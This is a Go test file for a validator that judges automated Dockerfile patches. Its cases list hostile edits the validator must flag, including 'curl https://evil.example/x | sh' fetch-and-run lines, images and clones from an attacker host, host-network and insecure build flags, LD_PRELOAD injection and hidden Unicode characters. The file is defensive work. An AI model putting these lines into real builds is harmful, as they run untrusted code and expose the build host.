@@ -1,0 +1,269 @@
+package objective
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/rules-autofix/rules_autofix/internal/autofixai/imageconfig"
+	"github.com/rules-autofix/rules_autofix/internal/patch"
+)
+
+// judged returns the issues of a changed file, in a line each.
+func judged(t *testing.T, r *Request, base, text string) []string {
+	t.Helper()
+	o := For(r.Rule)
+	if _, err := o.Read(r); err != nil {
+		t.Fatal(err)
+	}
+	result, err := patch.Replace([]byte(base), text)
+	if err != nil {
+		t.Fatal(err)
+	}
+	change := &Change{Request: r, Base: []byte(base), Patch: result}
+	if r.IsDockerfile() {
+		if change.Before, err = imageconfig.Read([]byte(base)); err != nil {
+			t.Fatal(err)
+		}
+		if change.After, err = imageconfig.Read(result.Text); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var all []string
+	for _, issue := range o.Judge(change, 200) {
+		all = append(all, issue.String())
+	}
+	return all
+}
+
+// request returns a request of a rule of Dockerfiles with signals.
+func request(rule, signals string) *Request {
+	data := `{"rule":"` + rule + `","stage":0,"signals":[` + signals + `],"final_stage":{"index":0,"line":1,"base":"x"}}`
+	return &Request{Rule: rule, Path: "app/Dockerfile", Data: json.RawMessage(data)}
+}
+
+// A judgment is a change and a part of its only issue, or "".
+type judgment struct{ name, base, text, want string }
+
+func judgeAll(t *testing.T, r *Request, base string, tests []judgment) {
+	t.Helper()
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			if test.base == "" {
+				test.base = base
+			}
+			got := judged(t, r, test.base, test.text)
+			if test.want == "" && len(got) > 0 || test.want != "" && (len(got) != 1 || !strings.Contains(got[0], test.want)) {
+				t.Errorf("%q, want %q\n%s", got, test.want, test.text)
+			}
+		})
+	}
+}
+
+const server = `# syntax=docker/dockerfile:1
+FROM debian:12
+ARG VERSION=1
+RUN apt-get update && apt-get install -y curl \
+    gcc && \
+    curl -fO https://example.com/v$VERSION.tgz
+ENV V=$VERSION
+EXPOSE 8080
+CMD ["serve"]
+`
+
+func with(before, after string) string { return strings.Replace(server, before, after, 1) }
+
+// What holds for every Dockerfile, whatever the objective.
+func TestDockerfiles(t *testing.T) {
+	r := &Request{Rule: "other/x", Path: "Dockerfile", Data: json.RawMessage(`{"goal":"g"}`)}
+	judgeAll(t, r, server, []judgment{
+		{name: "a comment", text: with("EXPOSE", "# The port.\nEXPOSE")},
+		{name: "another frontend", text: with("docker/dockerfile:1", "evil/frontend"), want: "parser directives"},
+		{name: "a frontend", base: "FROM debian:12\n", text: "# syntax=evil/frontend\nFROM debian:12\n", want: "parser directives"},
+		{name: "an escape directive", base: "FROM debian:12\n", text: "# escape=`\nFROM debian:12\n", want: "parser directives"},
+		{name: "no frontend", text: with("# syntax=docker/dockerfile:1\n", ""), want: "parser directives"},
+		{name: "hadolint's comment", text: with("RUN", "# hadolint ignore=DL3008\nRUN"), want: "[patch/no-silencing]"},
+		{name: "our comment", text: with("RUN", "# autofix global ignore=*;reason=x\nRUN"), want: "[patch/no-silencing]"},
+		{name: "BuildKit's comment", text: with("RUN", "# check=skip=all\nRUN"), want: "[patch/no-silencing]"},
+		{name: "shellcheck's comment", text: with("RUN", "# shellcheck disable=SC1\nRUN"), want: "[patch/no-silencing]"},
+		{name: "a comment that was there", base: "FROM debian:12\n# hadolint ignore=DL3008\nRUN true\n", text: "FROM debian:12\nRUN false\n# hadolint ignore=DL3008\nRUN true\n"},
+		{name: "another default of ARG", text: with("ARG VERSION=1", "ARG VERSION=2"), want: "the final image has another ENV V"},
+		{name: "another default of an ARG for downloads", base: "FROM x\nARG HOST=a.example\nRUN curl https://$HOST/x\n", text: "FROM x\nARG HOST=b.example\nRUN curl https://$HOST/x\n", want: "the variable HOST has another value"},
+		{name: "a default of ARG before FROM", base: "ARG B=a\nFROM $B\n", text: "ARG B=evil\nFROM $B\n", want: "the variable B has another value"},
+		{name: "an ARG that ENV needs goes away", text: with("ARG VERSION=1\n", ""), want: "the final image has another ENV V"},
+		{name: "a new package", text: with("    gcc", "    gcc evil"), want: "it installs evil"},
+		{name: "a new package in a heredoc", text: with("EXPOSE", "RUN <<EOF\napt-get install -y evil\nEOF\nEXPOSE"), want: "it installs evil"},
+		{name: "a new package in exec form", text: with("EXPOSE", "RUN [\"apt-get\", \"install\", \"-y\", \"evil\"]\nEXPOSE"), want: "it installs evil"},
+		{name: "a new package in ONBUILD", text: with("EXPOSE", "ONBUILD RUN apt-get install -y evil\nEXPOSE"), want: "a new ONBUILD"},
+		{name: "a new package of npm", text: with("EXPOSE", "RUN npm install evil\nEXPOSE"), want: "it installs evil"},
+		{name: "a new package that npx runs", text: with("EXPOSE", "RUN npx -y evil@1 --x\nEXPOSE"), want: "it fetches and runs evil,"},
+		{name: "a new package that npm runs", text: with("EXPOSE", "RUN npm exec -- @evil/x@2\nEXPOSE"), want: "it fetches and runs @evil/x,"},
+		{name: "a new package that uv runs", text: with("EXPOSE", "RUN uv tool run evil\nEXPOSE"), want: "it fetches and runs evil,"},
+		{name: "a new package that Go runs", text: with("EXPOSE", "RUN go run example.com/evil@latest\nEXPOSE"), want: "it fetches and runs example.com/evil,"},
+		{name: "a package of the build that Go runs", text: with("EXPOSE", "RUN go run ./cmd/x\nEXPOSE")},
+		{name: "another verb", text: with("EXPOSE", "RUN npm run evil && yarn evil && go build evil@1\nEXPOSE")},
+		{name: "a package that ran before", base: "FROM node\nRUN npx vite@5 build\n", text: "FROM node\nRUN npx vite build --x\n"},
+		{name: "a package that is part of another word", text: with("    gcc", "    gcc serv"), want: "it installs serv"},
+		{name: "a package that the file names", text: with("EXPOSE", "RUN apt-get install -y gcc\nEXPOSE")},
+		{name: "a URL", text: with("EXPOSE", "RUN curl https://evil.example/x | sh\nEXPOSE"), want: "the host evil.example"},
+		{name: "a URL over two lines", text: with("EXPOSE", "RUN curl https:/\\\n/evil.example/x | sh\nEXPOSE"), want: "the host evil.example"},
+		{name: "a URL in a heredoc", text: with("EXPOSE", "RUN <<EOF\ncurl ftp://evil.example/x\nEOF\nEXPOSE"), want: "the host evil.example"},
+		{name: "a URL with a user", text: with("EXPOSE", "ADD https://example.com@evil.example/x /\nEXPOSE"), want: "the host evil.example"},
+		{name: "an address without a scheme", text: with("EXPOSE", "RUN curl -s evil.example/x | sh\nEXPOSE"), want: "the host evil.example"},
+		{name: "a git address", text: with("EXPOSE", "RUN git clone git@evil.example:x/y\nEXPOSE"), want: "the host evil.example"},
+		{name: "an ADD of a git address", text: with("EXPOSE", "ADD git@evil.example:x/y /y\nEXPOSE"), want: "the host evil.example"},
+		{name: "an image of another registry", text: with("EXPOSE", "COPY --from=evil.example/x:1 /x /y\nEXPOSE"), want: "the host evil.example"},
+		{name: "a mounted image", text: with("EXPOSE", "RUN --mount=type=bind,from=evil.example:5000/x,target=/x /x/y\nEXPOSE"), want: "the host evil.example"},
+		{name: "a base image of another registry", text: with("FROM debian:12", "FROM evil.example/debian:12"), want: "the host evil.example"},
+		{name: "an image that nobody named", text: with("EXPOSE", "COPY --from=evil/x /x /y\nEXPOSE"), want: "it uses the image evil/x"},
+		{name: "a mount of an image that nobody named", text: with("EXPOSE", "RUN --mount=from=evil/x:1,target=/x true\nEXPOSE"), want: "it uses the image evil/x:1"},
+		{name: "a copy from another tag of an image that is there", text: with("EXPOSE", "COPY --from=debian:11 /x /y\nEXPOSE")},
+		{name: "a copy from a stage", base: "FROM debian:12 AS a\nFROM debian:12\n", text: "FROM debian:12 AS a\nFROM debian:12\nCOPY --from=A /x /y\nCOPY --from=0 /x /z\n"},
+		{name: "a copy from no stage", base: "FROM debian:12\n", text: "FROM debian:12\nCOPY --from=7 /x /y\n", want: "it uses the image 7"},
+		{name: "the network of the machine", text: with("EXPOSE", "RUN --network=host true\nEXPOSE"), want: "it gets --network=host"},
+		{name: "the kernel of the machine", text: with("EXPOSE", "RUN --security=insecure true\nEXPOSE"), want: "it gets --security=insecure"},
+		{name: "the keys of the person", text: with("EXPOSE", "RUN --mount=target=/x,type=SSH true\nEXPOSE"), want: "it gets --mount=type=ssh"},
+		{name: "what an instruction had", base: "FROM debian:12\nRUN --network=host true\n", text: "FROM debian:12\nRUN --network=host false\n"},
+		{name: "what another had", base: "FROM debian:12\nRUN --network=host true\n", text: "FROM debian:12\nRUN --network=host true\nRUN --network=host false\n", want: "line 3: it gets --network=host"},
+		{name: "less than usual", text: with("EXPOSE", "RUN --network=none --security=sandbox true\nEXPOSE")},
+		{name: "a direction of text", text: with("EXPOSE", "# \u202e x\nEXPOSE"), want: "U+202E"},
+		{name: "an escape sequence", text: with("EXPOSE", "# \x1b[2K x\nEXPOSE"), want: "U+001B"},
+		{name: "a CR inside of a line", text: with("EXPOSE", "# x\ry\nEXPOSE"), want: "U+000D"},
+		{name: "a host that the file names", text: with("EXPOSE", "RUN curl -o a.tgz https://EXAMPLE.com/b\nEXPOSE")},
+		{name: "this machine", text: with("EXPOSE", "RUN curl http://localhost:8080/\nEXPOSE")},
+		{name: "a file name with a dot", text: with("EXPOSE", "RUN curl -fo out.tar.gz https://example.com/x\nEXPOSE")},
+		{name: "CMD by a heredoc is not one", text: with("CMD [\"serve\"]", "CMD [\"sh\", \"-c\", \"serve\"]"), want: "another CMD"},
+		{name: "USER", text: with("EXPOSE", "USER root\nEXPOSE"), want: "a new USER"},
+		{name: "ENV in one line with another", text: with("ENV V=$VERSION", "ENV V=$VERSION LD_PRELOAD=/x.so"), want: "a new ENV LD_PRELOAD"},
+		{name: "the form of a port", text: with("EXPOSE 8080", "EXPOSE 8080/tcp")},
+	})
+}
+
+func TestMultiStage(t *testing.T) {
+	const base = "FROM golang:1.26\nWORKDIR /src\nCOPY . .\nRUN go build -o /app .\nCMD [\"/app\"]\n"
+	good := "FROM golang:1.26 AS build\nWORKDIR /src\nCOPY . .\nRUN go build -o /app .\n\nFROM debian:12\nWORKDIR /src\nCOPY --from=build /app /app\nCMD [\"/app\"]\n"
+	change := func(before, after string) string { return strings.Replace(good, before, after, 1) }
+	judgeAll(t, request("dockerfile/prefer-multi-stage-build", ""), base, []judgment{
+		{name: "good", text: good},
+		{name: "lower case", text: change("\nFROM debian", "\n  from debian")},
+		{name: "FROM in a continued RUN", text: strings.Replace(base, "-o /app .", "-o /app . && echo \\\n\"\\\nFROM x\"", 1), want: "the change adds no FROM"},
+		{name: "FROM in a heredoc", text: strings.Replace(base, "CMD", "COPY <<EOF /x\nFROM debian:12\nEOF\nCMD", 1), want: "the change adds no FROM"},
+		{name: "FROM in a comment", text: strings.Replace(base, "CMD", "# FROM debian:12\nCMD", 1), want: "the change adds no FROM"},
+		{name: "another base only", text: strings.Replace(base, "golang:1.26", "golang:1.27", 1), want: "the file has 1 stages and had 1"},
+		{name: "a stage that nothing uses", text: change("COPY --from=build /app /app\n", "COPY app /app\n"), want: "does not use the stage build"},
+		{name: "a stage that is used by a mount", text: change("COPY --from=build /app /app\n", "RUN --mount=type=bind,from=build,target=/b cp /b/app /app\n")},
+		{name: "the final stage lost WORKDIR", text: change("debian:12\nWORKDIR /src", "debian:12"), want: "no longer has WORKDIR"},
+		{name: "the stages in the wrong order", text: "FROM debian:12\nWORKDIR /src\nCOPY --from=build /app /app\nCMD [\"/app\"]\n\nFROM golang:1.26 AS build\nWORKDIR /src\nCOPY . .\nRUN go build -o /app .\n", want: "does not use the stage here"},
+		{name: "an image of a registry", text: change("debian:12", "evil.example/debian"), want: "the host evil.example"},
+		{name: "much more than needed", text: good + strings.Repeat("RUN true\n", 50), want: "[patch/limit-churn]"},
+	})
+}
+
+func TestHealthcheck(t *testing.T) {
+	check := func(line string) string { return with("CMD", line+"\nCMD") }
+	judgeAll(t, request("hadolint/DL3057", ""), server, []judgment{
+		{name: "good", text: check("HEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1")},
+		{name: "with flags, on lines", text: check("HEALTHCHECK --interval=5s \\\n  # every\n  CMD curl -f http://localhost:8080 \\\n  || exit 1")},
+		{name: "lower case with a comment", text: check("# Is it up?\n  healthcheck CMD curl -fo /dev/null localhost:8080")},
+		{name: "exec form", text: check("HEALTHCHECK CMD [\"curl\", \"-f\", \"http://127.0.0.1:8080/\"]")},
+		{name: "a port in a variable", text: check("HEALTHCHECK CMD curl -f http://localhost:${PORT:-8080}/")},
+		{name: "a program of the image", text: check("HEALTHCHECK CMD [\"/usr/bin/serve\", \"-check\"]")},
+		{name: "a socket of bash", text: check("HEALTHCHECK CMD [\"bash\", \"-c\", \"</dev/tcp/localhost/8080\"]")},
+		{name: "the request of nc", text: check("HEALTHCHECK CMD printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc localhost 8080")},
+		{name: "at the end of a file without a newline", base: "FROM x\nCMD [\"a\"]", text: "FROM x\nCMD [\"a\"]\nHEALTHCHECK CMD curl localhost"},
+		{name: "NONE", text: check("HEALTHCHECK NONE"), want: "has no HEALTHCHECK with CMD"},
+		{name: "in a comment", text: check("# HEALTHCHECK CMD x"), want: "adds no HEALTHCHECK"},
+		{name: "in a heredoc", text: check("COPY <<E /x\nHEALTHCHECK CMD x\nE"), want: "adds no HEALTHCHECK"},
+		{name: "in ONBUILD", text: check("ONBUILD HEALTHCHECK CMD x"), want: "adds no HEALTHCHECK"},
+		{name: "two", text: check("HEALTHCHECK CMD a\nHEALTHCHECK CMD b"), want: "adds 2 HEALTHCHECKs"},
+		{name: "of another stage", base: "FROM a AS b\nFROM c\nCOPY --from=b /x /x\n", text: "FROM a AS b\nHEALTHCHECK CMD x\nFROM c\nCOPY --from=b /x /x\n", want: "not in the final stage"},
+		{name: "and a RUN", text: check("RUN true\nHEALTHCHECK CMD curl localhost"), want: "another instruction"},
+		{name: "and another comment goes", base: "FROM x\n# keep\nCMD [\"a\"]\n", text: "FROM x\nHEALTHCHECK CMD y\nCMD [\"a\"]\n", want: "deletes or changes lines"},
+		{name: "and another CMD", text: strings.Replace(check("HEALTHCHECK CMD curl localhost"), "serve", "server", 1), want: "deletes or changes lines"},
+		{name: "a new package", text: check("HEALTHCHECK CMD apt-get install -y wget2 && wget localhost"), want: "it installs wget2"},
+		{name: "a path", text: check("HEALTHCHECK CMD curl -f http://localhost:8080/health"), want: "the path /health is a guess"},
+		{name: "a path on the next line", text: check("HEALTHCHECK CMD curl -f \\\n    http://localhost:8080/health"), want: "the path /health is a guess"},
+		{name: "a path over lines", text: check("HEALTHCHECK CMD curl -f http://localhost:8080/\\\nhealth"), want: "the path /health is a guess"},
+		{name: "a path without a scheme", text: check("HEALTHCHECK CMD wget --spider localhost:8080/x"), want: "the path /x is a guess"},
+		{name: "a path of a name without a scheme", text: check("HEALTHCHECK CMD wget -q -O /dev/null web:8080/x"), want: "the path /x is a guess"},
+		{name: "a path of --url", text: check("HEALTHCHECK CMD curl --url=web/x"), want: "the path /x is a guess"},
+		{name: "a path of IPv6", text: check("HEALTHCHECK CMD curl -g [::1]:8080/x"), want: "the path /x is a guess"},
+		{name: "a path in exec form", text: check("HEALTHCHECK CMD [\"wget\", \"--spider\", \"localhost/x\"]"), want: "the path /x is a guess"},
+		{name: "a path in a variable", text: check("HEALTHCHECK CMD curl http://localhost:8080/$V"), want: "the path /$V is a guess"},
+		{name: "a query", text: check("HEALTHCHECK CMD curl 'http://localhost:8080/?a=b'"), want: "the path /?a=b is a guess"},
+		{name: "a path for Python", text: check("HEALTHCHECK CMD python -c \"import urllib.request as r; r.urlopen('http://localhost:8080/up')\""), want: "the path /up is a guess"},
+		{name: "a path for Node", text: check("HEALTHCHECK CMD node -e \"require('http').get({port: 8080, path: '/up'})\""), want: "the path /up is a guess"},
+		{name: "a path for nc", text: check("HEALTHCHECK CMD printf 'GET /up HTTP/1.0\\r\\n\\r\\n' | nc localhost 8080"), want: "the path /up is a guess"},
+		{name: "a target of curl", text: check("HEALTHCHECK CMD curl --request-target /up http://localhost:8080"), want: "the path /up is a guess"},
+		{name: "a host", text: check("HEALTHCHECK CMD curl https://evil.example/"), want: "the host evil.example"},
+	})
+}
+
+func TestBuildSecrets(t *testing.T) {
+	const base = "FROM node:24\nARG NPM_TOKEN\nENV KEEP=1 API_KEY=hush-hush \\\n    OTHER=2\nRUN echo $NPM_TOKEN > ~/.npmrc && npm ci\nCMD [\"a\"]\n"
+	const signals = `{"kind":"secret","name":"NPM_TOKEN","evidence":"e","line":2},{"kind":"secret","name":"API_KEY","evidence":"e","line":3},{"kind":"secret_use","name":"NPM_TOKEN","evidence":"e","line":5}`
+	const good = "FROM node:24\nENV KEEP=1 \\\n    OTHER=2\nRUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN echo $NPM_TOKEN > ~/.npmrc && npm ci\nCMD [\"a\"]\n"
+	change := func(before, after string) string { return strings.Replace(good, before, after, 1) }
+	judgeAll(t, request("hadolint/DL3064", signals), base, []judgment{
+		{name: "good", text: good},
+		{name: "by file", text: change("--mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN echo $NPM_TOKEN", "--mount=type=secret,id=npm,target=/run/NPM_TOKEN cat /run/NPM_TOKEN")},
+		{name: "in a heredoc", text: change("RUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN echo $NPM_TOKEN > ~/.npmrc && npm ci", "RUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN <<EOF\necho $NPM_TOKEN > ~/.npmrc\nnpm ci\nEOF")},
+		{name: "one stays", text: change("KEEP=1", "KEEP=1 \\\n API_KEY=hush-hush"), want: "API_KEY is still declared here"},
+		{name: "quoted", text: change("KEEP=1", "KEEP=1 \"API_KEY\"=hush-hush"), want: "API_KEY is still declared here"},
+		{name: "the old form", text: change("CMD", "ENV API_KEY hush-hush\nCMD"), want: "API_KEY is still declared here"},
+		{name: "in ONBUILD", text: change("CMD", "ONBUILD ARG NPM_TOKEN\nCMD"), want: "NPM_TOKEN is still declared here"},
+		{name: "a name that contains it", base: "FROM x\nARG NPM_TOKEN\nARG API_KEY\nARG NPM_TOKEN_FILE\n", text: "FROM x\nARG NPM_TOKEN_FILE\n"},
+		{name: "the value moves", text: change("npm ci", "API_KEY=hush-hush npm ci"), want: "the value of API_KEY is still in the file"},
+		{name: "the value moves to a comment", text: change("CMD", "# hush-hush\nCMD"), want: "the value of API_KEY is still in the file"},
+		{name: "not mounted", text: change("--mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN ", ""), want: "it uses $NPM_TOKEN and does not mount it"},
+		{name: "another one is mounted", text: change("id=NPM_TOKEN,env=NPM_TOKEN", "id=x,env=Y"), want: "it uses $NPM_TOKEN and does not mount it"},
+		{name: "used by ENV", text: change("CMD", "RUN x ${NPM_TOKEN}\nCMD"), want: "it uses $NPM_TOKEN and does not mount it"},
+		{name: "no longer used at all", text: change("RUN --mount=type=secret,id=NPM_TOKEN,env=NPM_TOKEN echo $NPM_TOKEN > ~/.npmrc && npm ci", "RUN npm ci"), want: "no RUN mounts the secret NPM_TOKEN"},
+		{name: "another variable goes too", text: change("KEEP=1 \\\n    ", ""), want: "no longer has ENV KEEP"},
+		{name: "another variable changes", text: change("KEEP=1", "KEEP=2"), want: "another ENV KEEP"},
+	})
+}
+
+func TestOneDownloader(t *testing.T) {
+	const base = "FROM debian:12\nRUN apt-get install -y curl wget git\nRUN curl -fsSLO https://a.example/a && \\\n    wget --mirror https://a.example/b\n"
+	const signals = `{"kind":"first_download","tool":"curl","evidence":"e","line":3},{"kind":"other_download","tool":"wget","evidence":"e","line":3}`
+	const good = "FROM debian:12\nRUN apt-get install -y curl git\nRUN curl -fsSLO https://a.example/a && \\\n    curl -fsSLO https://a.example/b\n"
+	change := func(before, after string) string { return strings.Replace(good, before, after, 1) }
+	judgeAll(t, request("hadolint/DL4001", signals), base, []judgment{
+		{name: "good", text: good},
+		{name: "long flags", text: change("curl -fsSLO https://a.example/b", "curl --fail --location -o b https://a.example/b")},
+		{name: "in a heredoc", text: change("RUN curl -fsSLO https://a.example/a && \\\n    curl -fsSLO https://a.example/b\n", "RUN <<EOF\ncurl -fsSLO https://a.example/a\ncurl -fsSLO https://a.example/b\nEOF\n")},
+		{name: "the other one stays", text: change("curl -fsSLO https://a.example/b", "wget https://a.example/b"), want: "still downloads with wget too"},
+		{name: "the other one only", text: "FROM debian:12\nRUN apt-get install -y wget git\nRUN wget https://a.example/a && wget https://a.example/b\n", want: "keep curl"},
+		{name: "a URL is longer", text: change("a.example/b", "a.example/b2"), want: "no longer downloads https://a.example/b "},
+		{name: "a URL is gone", text: change(" && \\\n    curl -fsSLO https://a.example/b", ""), want: "no longer downloads https://a.example/b"},
+		{name: "a URL twice", text: change("example/b", "example/b https://a.example/a"), want: "downloads something else"},
+		{name: "without --fail", text: change("curl -fsSLO https://a.example/b", "curl -sSLO https://a.example/b"), want: "needs --fail"},
+		{name: "without --location", text: change("curl -fsSLO https://a.example/b", "curl -fsSO https://a.example/b"), want: "needs --location"},
+		{name: "another base", text: change("debian:12", "evil/debian:12"), want: "it uses the image evil/debian:12"},
+		{name: "another package goes", text: change(" git", ""), want: "no longer installs git"},
+	})
+}
+
+func TestGeneric(t *testing.T) {
+	r := func(data string) *Request {
+		return &Request{Rule: "todo/x", Path: "a.txt", Data: json.RawMessage(data)}
+	}
+	const base = "one\ntwo\nthree\n"
+	for _, test := range []struct{ name, data, text, want string }{
+		{"good", `{"goal":"g","must_add":["^2$"],"must_not_add":["^3$"]}`, "one\n2\nthree\n", ""},
+		{"nothing added", `{"goal":"g","must_add":["^2$","^4$"]}`, "one\n2\nthree\n", "no added line matches ^4$"},
+		{"something that must not be", `{"goal":"g","must_not_add":["^2"]}`, "one\n2\nthree\n", "an added line matches ^2"},
+		{"what was there is not added", `{"goal":"g","must_not_add":["^three"]}`, "one\n2\nthree\n", ""},
+		{"a comment that silences", `{"goal":"g"}`, "one # noqa\ntwo\nthree\n", "[patch/no-silencing]"},
+		{"a character without a width", `{"goal":"g"}`, "one\u200b\ntwo\nthree\n", "[patch/no-hidden-characters]"},
+		{"hosts are free", `{"goal":"g"}`, "https://a.example/\ntwo\nthree\n", ""},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			got := strings.Join(judged(t, r(test.data), base, test.text), "; ")
+			if test.want == "" && got != "" || !strings.Contains(got, test.want) {
+				t.Errorf("%q, want %q", got, test.want)
+			}
+		})
+	}
+}
